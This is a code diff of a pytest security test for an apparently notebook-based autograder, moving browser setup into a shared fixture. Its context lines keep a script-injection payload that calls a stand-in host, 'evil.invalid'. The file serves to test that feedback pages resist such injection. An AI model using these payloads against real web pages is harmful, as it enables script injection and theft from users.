@@ -8,7 +8,6 @@ from __future__ import annotations
 
 import csv
 import json
-import os
 import shutil
 import subprocess
 import sys
@@ -25,7 +24,6 @@ from tests.autograder.attacks.conftest import WRONG
 from tests.autograder.conftest import TOPIC, code_cell
 from tests.autograder.test_grade import nbgrader
 
-CHROMIUM = ("chromium", "chromium-browser", "google-chrome")
 EVIL = "http://evil.invalid"
 RUN = f"window.pwned=1;fetch('{EVIL}/fetched');alert(1)"
 MARKUP = [
@@ -169,26 +167,15 @@ def report(course, student):
 
 
 @pytest.fixture(scope="module")
-def visits(shown):
+def visits(shown, browser):
     """What a browser did with the feedback pages and the class report."""
-    found = [path for name in CHROMIUM if (path := shutil.which(name))]
-    if not found:
-        reason = f"none of {', '.join(CHROMIUM)} is installed"
-        pytest.fail(reason) if os.environ.get("CI") else pytest.skip(reason)
-    from playwright.sync_api import sync_playwright
-
     course, written = shown
     pages = {s: course / "feedback" / s / TOPIC / f"{TOPIC}.html" for s in STUDENTS}
     pages["class report"] = next(p for p in written.values() if p.suffix == ".html")
     seen = {}
-    with sync_playwright() as playwright:
-        browser = playwright.chromium.launch(
-            executable_path=found[0], args=["--no-sandbox", "--disable-gpu"]
-        )
-        for name, path in pages.items():
-            with browser.new_context() as context:
-                seen[name] = visit(context, path)
-        browser.close()
+    for name, path in pages.items():
+        with browser.new_context() as context:
+            seen[name] = visit(context, path)
     return seen
 
 
